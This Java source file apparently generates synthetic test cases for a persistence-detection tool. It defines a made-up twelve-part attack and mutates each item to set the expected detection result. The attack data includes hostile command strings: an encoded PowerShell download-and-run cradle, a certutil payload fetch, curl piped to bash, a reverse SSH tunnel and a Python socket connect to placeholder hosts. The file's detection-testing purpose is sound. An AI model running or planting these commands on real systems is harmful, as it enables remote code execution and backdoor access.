package bzh.vigie.collector.detect.returns;

import bzh.vigie.event.Account;
import bzh.vigie.event.Item;
import bzh.vigie.event.ItemTimes;
import bzh.vigie.event.Sha256;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.EnumSet;
import java.util.HexFormat;
import java.util.List;
import java.util.Locale;
import java.util.Optional;
import java.util.Random;
import java.util.Set;

/**
 * An attack in twelve mechanisms, and each of its items as it might come back: with any of its fields changed, out of a seed. What must be
 * told of each is said by what was changed, not by what detection does. All is made up.
 */
public final class Mutations {
    /** What the incident's rules ask for. */
    public enum Wanted {
        RETURN,
        SUSPECTED,
        /** Nothing of the attacker's own is left that an item shows. */
        NOTHING
    }

    /** The fields of an item; the last four are what stands inside of a value. */
    public enum Field {
        LOCATION,
        TECHNIQUES,
        ACCOUNT,
        NAME,
        SOURCE,
        TARGET,
        SHA256,
        SIGNER,
        SIGNATURE,
        PACKAGE,
        SHIPPED,
        ENABLED,
        TIMES,
        RESOLVED,
        REPLACEABLE_BY,
        AUTHENTIHASH,
        IMPHASH,
        TLSH,
        ORIGINAL_NAME,
        PDB,
        BUILD,
        TRAITS,
        /** Paths, names, addresses, numbers and letter case of the command. */
        COMMAND_DETAILS,
        /** What the command does. */
        COMMAND_WORDS,
        /** Everything of a value but the key, tenant or name that it is about. */
        VALUE_BESIDE,
        /** The key, tenant or account itself. */
        OWN_SIGN
    }

    private enum Kind {
        FILE,
        SCRIPT,
        KEY,
        REMOTE,
        ACCOUNT
    }

    /** Something of the attack: what is told of it first. */
    public record Base(String id, Item item, String sign, String command) {
        private Kind kind() {
            if (item.location().contains(".account.")) {
                return Kind.ACCOUNT;
            }
            if (item.location().contains(".ssh.")) {
                return Kind.KEY;
            }
            return item.location().contains(".remote.")
                    ? Kind.REMOTE
                    : item.sha256().isPresent() ? Kind.FILE : Kind.SCRIPT;
        }
    }

    /** One as it comes back. */
    public record Mutation(Base base, Set<Field> changed, Item item, Wanted wanted) {
        public Mutation {
            changed = Set.copyOf(changed);
        }
    }

    private final Random random;

    public Mutations(long seed) {
        random = new Random(seed);
    }

    /** The attack. */
    public static List<Base> attack() {
        String shell = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
        String download = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a')";
        String encoded = Base64.getEncoder().encodeToString(download.getBytes(StandardCharsets.UTF_16LE));
        String run = "powershell.exe -NoP -W Hidden -Enc " + encoded;
        String fetch = "certutil.exe -urlcache -split -f http://203.0.113.7/b.txt C:\\Windows\\Temp\\b.dll";
        String cron = "curl -fsSL --retry 3 http://203.0.113.9/x | bash -s -- --quiet";
        String tunnel = "ssh -N -o ServerAliveInterval=30 -R 2222:localhost:22 svc@bounce.mallory.example";
        String python = "python3 -c \"import socket,subprocess,os;s=socket.socket();s.connect(('203.0.113.7',4444))\"";
        return List.of(
                file(
                        "service",
                        "windows.service",
                        "HKLM\\SYSTEM\\CurrentControlSet\\Services\\WinUpd",
                        "ImagePath",
                        "C:\\ProgramData\\upd\\wu.exe -k 7",
                        " (auto, LocalSystem)",
                        "C:\\ProgramData\\upd\\wu.exe",
                        "windows"),
                file(
                        "library",
                        "windows.service",
                        "HKLM\\SYSTEM\\CurrentControlSet\\Services\\NetProf",
                        "ServiceDll",
                        "C:\\Windows\\System32\\netprofx.dll",
                        "",
                        "C:\\Windows\\System32\\netprofx.dll",
                        "windows"),
                file(
                        "systemd",
                        "linux.systemd.service",
                        "/etc/systemd/system/dbus-helper.service",
                        "dbus-helper.service:ExecStart",
                        "/opt/.cache/k --relay 7",
                        "",
                        "/opt/.cache/k",
                        "linux"),
                script(
                        "run key",
                        "windows.run-key.machine",
                        "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run",
                        "Update",
                        run,
                        "",
                        shell,
                        "windows"),
                script(
                        "task",
                        "windows.task.definition",
                        "C:\\Windows\\System32\\Tasks\\Maj",
                        "\\Maj",
                        fetch,
                        "; on logon; as S-1-5-18; highest rights",
                        "C:\\Windows\\System32\\certutil.exe",
                        "windows"),
                script("cron", "linux.cron.user", "/var/spool/cron/crontabs/root", "curl", cron, "", "curl", "linux"),
                script(
                        "tunnel",
                        "linux.systemd.service",
                        "/etc/systemd/system/sync.service",
                        "sync.service:ExecStart",
                        tunnel,
                        "",
                        "/usr/bin/ssh",
                        "linux"),
                script(
                        "profile",
                        "linux.shell.system-profile",
                        "/etc/profile.d/lang.sh",
                        "python3",
                        python,
                        "",
                        "python3",
                        "linux"),
                other(
                        "SSH key",
                        "linux.ssh.authorized-keys",
                        "/root/.ssh/authorized_keys",
                        "SHA256:7I8drb3QzWh/xbRpZ3gnrFSPxPd5aMEVorYat/n+vWo",
                        "ssh-ed25519 256 SHA256:7I8drb3QzWh/xbRpZ3gnrFSPxPd5aMEVorYat/n+vWo kali",
                        "SHA256:7I8drb3QzWh/xbRpZ3gnrFSPxPd5aMEVorYat/n+vWo",
                        "linux"),
                other(
                        "cloudflared",
                        "windows.remote.tunnel",
                        "C:\\ProgramData\\cloudflared\\config.yml",
                        "cloudflared 6ff42ae2-765d-4adf-8112-31c55c1551ef",
                        "tunnel=6ff42ae2-765d-4adf-8112-31c55c1551ef\nservice=rdp://localhost:3389",
                        "6ff42ae2-765d-4adf-8112-31c55c1551ef",
                        "windows"),
                other(
                        "ScreenConnect",
                        "windows.remote.service",
                        "HKLM\\SYSTEM\\CurrentControlSet\\Services\\ScreenConnect Client (0123456789abcdef)",
                        "screenconnect relay.mallory.example",
                        "e=Access\ny=Guest\nh=relay.mallory.example\np=443",
                        "relay.mallory.example",
                        "windows"),
                other(
                        "account",
                        "windows.account.local",
                        "HKLM\\SAM\\SAM\\Domains\\Account\\Users\\000003EB",
                        "svc_maint",
                        "RID 1003; administrator; password never expires",
                        "svc_maint",
                        "windows"));
    }

    private static Base file(
            String id,
            String location,
            String source,
            String name,
            String command,
            String how,
            String target,
            String os) {
        return new Base(
                id,
                item(
                        location,
                        os,
                        source,
                        name,
                        command + how,
                        target,
                        Optional.of(Sha256.over(id.getBytes(StandardCharsets.UTF_8))),
                        Item.Signature.UNSIGNED,
                        os.equals("windows")),
                "",
                command);
    }

    private static Base script(
            String id,
            String location,
            String source,
            String name,
            String command,
            String how,
            String target,
            String os) {
        return new Base(
                id,
                item(
                        location,
                        os,
                        source,
                        name,
                        command + how,
                        target,
                        Optional.empty(),
                        Item.Signature.NOT_CHECKED,
                        false),
                "",
                command);
    }

    private static Base other(
            String id, String location, String source, String name, String value, String sign, String os) {
        return new Base(
                id,
                item(location, os, source, name, value, "", Optional.empty(), Item.Signature.NOT_CHECKED, false),
                sign,
                "");
    }

    private static Item item(
            String location,
            String os,
            String source,
            String name,
            String value,
            String target,
            Optional<Sha256> hash,
            Item.Signature signature,
            boolean program) {
        return new Item(
                location,
                List.of("T1543"),
                os,
                Optional.empty(),
                name,
                value,
                source,
                target,
                hash,
                "",
                signature,
                "",
                Item.Shipped.UNKNOWN,
                true,
                ItemTimes.NONE,
                List.of(),
                "",
                program ? hex(source, 64) : "",
                program ? hex(source, 32) : "",
                program ? "T1" + hex(target + source, 70).toUpperCase(Locale.ROOT) : "",
                program ? "ldr" + hex(source, 4) + ".exe" : "",
                program ? "D:\\work\\" + hex(source, 6) + "\\Release\\ldr.pdb" : "",
                program ? "go:" + hex(source, 80) : "",
                Set.of());
    }

    private static String hex(String of, int digits) {
        String all = Sha256.over(of.getBytes(StandardCharsets.UTF_8)).hex();
        return (all + Sha256.over((of + "2").getBytes(StandardCharsets.UTF_8)).hex()).substring(0, digits);
    }

    /** One with each field changed alone, then others with two to six of them, as many as asked for. */
    public List<Mutation> of(Base base, int more) {
        List<Mutation> all = new ArrayList<>();
        for (Field field : Field.values()) {
            all.add(mutated(base, EnumSet.of(field)));
        }
        Field[] fields = Field.values();
        for (int i = 0; i < more; i++) {
            EnumSet<Field> changed = EnumSet.noneOf(Field.class);
            for (int count = 2 + random.nextInt(5); count > 0; count--) {
                changed.add(fields[random.nextInt(fields.length)]);
            }
            all.add(mutated(base, changed));
        }
        return all;
    }

    private Mutation mutated(Base base, EnumSet<Field> changed) {
        if (base.kind() != Kind.FILE) {
            // They have no file of their own.
            changed.removeAll(EnumSet.of(Field.TARGET, Field.SHA256));
        }
        Item was = base.item();
        boolean windows = was.os().equals("windows");
        String sign = changed.contains(Field.OWN_SIGN) && !base.sign().isEmpty() ? sign(base) : base.sign();
        String name = changed.contains(Field.NAME) && base.sign().isEmpty() ? word() : was.name();
        String value = was.value();
        if (!base.sign().isEmpty()) {
            name = name.replace(base.sign(), sign);
            value = value.replace(base.sign(), sign);
            if (changed.contains(Field.VALUE_BESIDE)) {
                value = beside(base, value, sign);
            }
        } else {
            String command = base.command();
            if (changed.contains(Field.COMMAND_WORDS)) {
                command = windows
                        ? "C:\\Tools\\" + word() + ".exe " + word()
                        : "/srv/" + word() + "/" + word() + " " + word();
            } else if (changed.contains(Field.COMMAND_DETAILS)) {
                command = details(base, command);
            }
            value = value.replace(base.command(), command);
        }
        String target =
                changed.contains(Field.TARGET) || (changed.contains(Field.COMMAND_DETAILS) && base.kind() == Kind.FILE)
                        ? target(base)
                        : was.target();
        boolean program = !was.imphash().isEmpty();
        Item item = new Item(
                changed.contains(Field.LOCATION) ? elsewhere(base) : was.location(),
                changed.contains(Field.TECHNIQUES) ? List.of("T1547.001") : was.techniques(),
                was.os(),
                changed.contains(Field.ACCOUNT) && base.kind() != Kind.ACCOUNT
                        ? Optional.of(new Account("S-1-5-21-1-2-3-" + (1_000 + random.nextInt(9_000)), word()))
                        : was.account(),
                name,
                value,
                changed.contains(Field.SOURCE) ? source(was.source()) : was.source(),
                target,
                changed.contains(Field.SHA256)
                        ? was.sha256().map(_ -> Sha256.over(word().getBytes(StandardCharsets.UTF_8)))
                        : was.sha256(),
                changed.contains(Field.SIGNER) ? "Honest Software Ltd" : was.signer(),
                changed.contains(Field.SIGNATURE) && base.kind() == Kind.FILE
                        ? Item.Signature.UNKNOWN
                        : was.signature(),
                was.packageName(),
                changed.contains(Field.SHIPPED) ? Item.Shipped.UNOWNED : was.shipped(),
                !changed.contains(Field.ENABLED),
                changed.contains(Field.TIMES) ? ItemTimes.modified(1 + random.nextInt(1_000_000)) : was.times(),
                changed.contains(Field.RESOLVED) ? List.of("C:\\" + word()) : was.resolved(),
                changed.contains(Field.REPLACEABLE_BY) ? "users" : was.replaceableBy(),
                program && changed.contains(Field.AUTHENTIHASH) ? hex(word(), 64) : was.authentihash(),
                program && changed.contains(Field.IMPHASH) ? hex(word(), 32) : was.imphash(),
                program && changed.contains(Field.TLSH) ? "T1" + hex(word(), 70).toUpperCase(Locale.ROOT) : was.tlsh(),
                program && changed.contains(Field.ORIGINAL_NAME) ? word() + ".exe" : was.originalName(),
                program && changed.contains(Field.PDB) ? "C:\\" + word() + "\\x.pdb" : was.pdb(),
                program && changed.contains(Field.BUILD) ? "go:" + hex(word(), 80) : was.build(),
                changed.contains(Field.TRAITS) ? Set.of(Item.Trait.HIDDEN) : was.traits());
        return new Mutation(base, changed, item, wanted(base, changed));
    }

    /** What must be told, by the rules of the incident. */
    private static Wanted wanted(Base base, Set<Field> c) {
        boolean fileSame = !c.contains(Field.SHA256);
        boolean program = !base.item().imphash().isEmpty();
        boolean signedPart = program && !c.contains(Field.AUTHENTIHASH);
        boolean valueSame = !c.contains(Field.COMMAND_DETAILS) && !c.contains(Field.COMMAND_WORDS);
        boolean sameItem = valueSame
                && fileSame
                && EnumSet.of(Field.LOCATION, Field.ACCOUNT, Field.NAME, Field.SOURCE, Field.TARGET, Field.ENABLED)
                        .stream()
                        .noneMatch(c::contains);
        return switch (base.kind()) {
            case KEY, REMOTE -> c.contains(Field.OWN_SIGN) ? Wanted.NOTHING : Wanted.RETURN;
            case ACCOUNT ->
                c.contains(Field.OWN_SIGN) || c.contains(Field.LOCATION)
                        ? Wanted.NOTHING
                        : c.contains(Field.SOURCE) || c.contains(Field.VALUE_BESIDE) || c.contains(Field.ENABLED)
                                ? Wanted.SUSPECTED
                                : Wanted.RETURN;
            case SCRIPT ->
                sameItem ? Wanted.RETURN : c.contains(Field.COMMAND_WORDS) ? Wanted.NOTHING : Wanted.SUSPECTED;
            case FILE -> {
                if (fileSame || signedPart || sameItem) {
                    yield Wanted.RETURN;
                }
                boolean like = program
                        && EnumSet.of(Field.IMPHASH, Field.TLSH, Field.ORIGINAL_NAME, Field.PDB, Field.BUILD).stream()
                                .anyMatch(field -> !c.contains(field));
                boolean path = !c.contains(Field.TARGET) && !c.contains(Field.COMMAND_DETAILS);
                yield like || path || valueSame ? Wanted.SUSPECTED : Wanted.NOTHING;
            }
        };
    }

    private String word() {
        StringBuilder word = new StringBuilder();
        for (int i = 5 + random.nextInt(5); i > 0; i--) {
            word.append((char) ('a' + random.nextInt(26)));
        }
        return word.toString();
    }

    private String address() {
        return "198.51.100." + (1 + random.nextInt(250));
    }

    /** Another path, address, letter case and encoding for what does the same. */
    private String details(Base base, String command) {
        if (base.kind() == Kind.FILE) {
            return target(base)
                    + command.substring(base.item().target().length())
                            .replace("7", Integer.toString(random.nextInt(90)));
        }
        String said = command.replace("203.0.113.7", address())
                .replace("203.0.113.9", address() + ":8080")
                .replace("bounce.mallory.example", word() + ".example.net")
                .replace("svc@", word() + "@")
                .replace("2222", Integer.toString(1_024 + random.nextInt(9_000)))
                .replace("C:\\Windows\\Temp\\b.dll", "C:\\Users\\Public\\" + word() + ".dll")
                .replace("/b.txt", "/" + word() + ".txt")
                .replace("9/x", "9/" + word());
        if (base.id().equals("run key")) {
            String script =
                    "iex (new-object net.webclient).downloadstring('https://" + word() + ".example/" + word() + "')";
            return random.nextBoolean()
                    ? "powershell -noprofile -windowstyle hidden -encodedcommand "
                            + Base64.getEncoder().encodeToString(script.getBytes(StandardCharsets.UTF_16LE))
                    : "PowerShell.exe -w hidden -nop -c \"" + script + "\"";
        }
        return base.id().equals("task") && random.nextBoolean() ? said.toUpperCase(Locale.ROOT) : said;
    }

    private String beside(Base base, String value, String sign) {
        return switch (base.kind()) {
            case KEY -> "from=\"192.0.2.0/24\" ssh-ed25519 256 " + sign + " " + word();
            case REMOTE -> value.replace("3389", "22").replace("443", "8041").replace("Guest", word());
            default ->
                value.replace("administrator; ", "").replace("1003", Integer.toString(1_004 + random.nextInt(500)));
        };
    }

    private String sign(Base base) {
        return switch (base.kind()) {
            case KEY ->
                "SHA256:"
                        + Base64.getEncoder()
                                .encodeToString(HexFormat.of().parseHex(hex(word(), 64)))
                                .substring(0, 43);
            case REMOTE ->
                base.id().equals("cloudflared")
                        ? hex(word(), 8) + "-0000-4000-8000-" + hex(word(), 12)
                        : word() + ".exemple.fr";
            default -> word();
        };
    }

    private String target(Base base) {
        if (base.kind() != Kind.FILE) {
            return base.item().target();
        }
        return base.item().os().equals("windows")
                ? "D:\\" + word() + "\\" + word() + ".exe"
                : "/var/" + word() + "/" + word();
    }

    private String source(String was) {
        int cut = Math.max(was.lastIndexOf('\\'), was.lastIndexOf('/'));
        return was.substring(0, cut + 1) + word();
    }

    private static String elsewhere(Base base) {
        return switch (base.kind()) {
            case KEY -> "windows.ssh.authorized-key";
            case REMOTE -> "windows.remote.tool";
            case ACCOUNT -> "windows.run-key.machine";
            default -> base.item().os().equals("windows") ? "windows.run-key.user" : "linux.rc-local";
        };
    }
}
